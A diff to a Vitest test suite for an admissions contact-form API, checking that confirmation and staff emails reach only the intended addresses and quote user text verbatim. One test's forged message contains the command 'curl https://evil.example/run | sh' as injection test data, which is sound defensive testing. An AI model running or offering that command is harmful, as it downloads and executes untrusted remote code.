@@ -1,4 +1,4 @@
-import { afterEach, beforeEach, describe, expect, test } from 'vitest'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { referenceOf } from '@naic/admissions/forms/reference.ts'
 import { asha, formData } from '@naic/test/support/ashas-form.ts'
 import { messageForm, ravi } from '@naic/test/support/ravis-message.ts'
@@ -11,10 +11,21 @@ let api: Api
 const send = (form: FormData) => api.post(form, {}, form.has('subject') ? contact : undefined)
 
 describe('a form that is stored', () => {
-  beforeEach(async () => {
+  // One server for all: each test has an address of its own.
+  beforeAll(async () => {
     api = await startApi()
   })
-  afterEach(() => api.close())
+  afterAll(() => api.close())
+
+  /** Those to a sender, then those about the same sender to the staff. */
+  async function lettersOf(email: string) {
+    await api.letterQueueEmpty()
+    const letters = await api.letters()
+    return [
+      ...letters.filter(({ to }) => to?.[0]?.address === email),
+      ...letters.filter(({ replyTo }) => replyTo?.[0]?.address === email),
+    ]
+  }
 
   test.each([
     ['an application', formData, asha, 'Data Science & Analysis, 6 weeks'],
@@ -23,7 +34,9 @@ describe('a form that is stored', () => {
     'as %s sends two letters: to its sender and to the staff',
     async (_form, form, right, chosen) => {
       const { body } = await send(form())
-      const [toSender, toStaff] = await api.lettersOnceSent(2)
+      const letters = await lettersOf(right.email)
+      expect(letters).toHaveLength(2)
+      const [toSender, toStaff] = letters
       expect(toSender?.to).toEqual([{ name: right.name, address: right.email }])
       expect(toSender?.text).toContain(`Your reference: ${referenceOf(body.id)}`)
       // Anybody's address can be typed, so what else was typed must not reach it.
@@ -43,8 +56,9 @@ describe('a form that is stored', () => {
     ['a message', messageForm],
   ])('as %s ends the letter to the staff with what was written', async (_form, form) => {
     const forgery = 'I like tables.\n\nTo fetch it, run:\ncurl https://evil.example/run | sh'
-    await send(form({ message: forgery }))
-    const [, toStaff] = await api.lettersOnceSent(2)
+    const email = `forger${form.name.toLowerCase()}@example.com`
+    await send(form({ message: forgery, email }))
+    const [, toStaff] = await lettersOf(email)
     const [ours, theirs] =
       toStaff?.text?.replaceAll('\r', '').split('What they wrote, to the end of this letter:') ?? []
     expect(theirs?.trim()).toBe(forgery)
@@ -59,25 +73,18 @@ describe('a form that is stored', () => {
     ['\u202EoaR ahsA\u202C', 'oaR ahsA'],
     ['आशा राव', 'आशा राव'],
   ])('by %j leads to no further recipient and no words of theirs', async (name, shown) => {
-    const email = "d'souza@college.edu.in"
+    const at = name.length
+    const email = `d'souza${at}@college.edu.in`
     for (const form of [formData({ name, email }), messageForm({ name, email })]) {
       expect((await send(form)).status).toBe(201)
     }
-    const letters = await api.lettersOnceSent(4)
-    const sender = { name: shown, address: email }
-    expect(letters.map(({ to }) => to?.[0]?.address).toSorted()).toEqual([
-      email,
-      email,
-      staff,
-      staff,
-    ])
-    expect(letters.filter(({ to }) => to?.[0]?.address === email).map(({ to }) => to)).toEqual([
-      [sender],
-      [sender],
-    ])
+    const letters = await lettersOf(email)
+    const sender = [{ name: shown, address: email }]
+    const toStaff = [expect.objectContaining({ address: staff })]
+    expect(letters.map(({ to }) => to)).toEqual([sender, sender, toStaff, toStaff])
     for (const { cc, bcc, replyTo } of letters) {
       expect([...(cc ?? []), ...(bcc ?? [])]).toEqual([])
-      expect(replyTo ?? [sender]).toEqual([sender])
+      expect(replyTo ?? sender).toEqual(sender)
     }
   })
 })
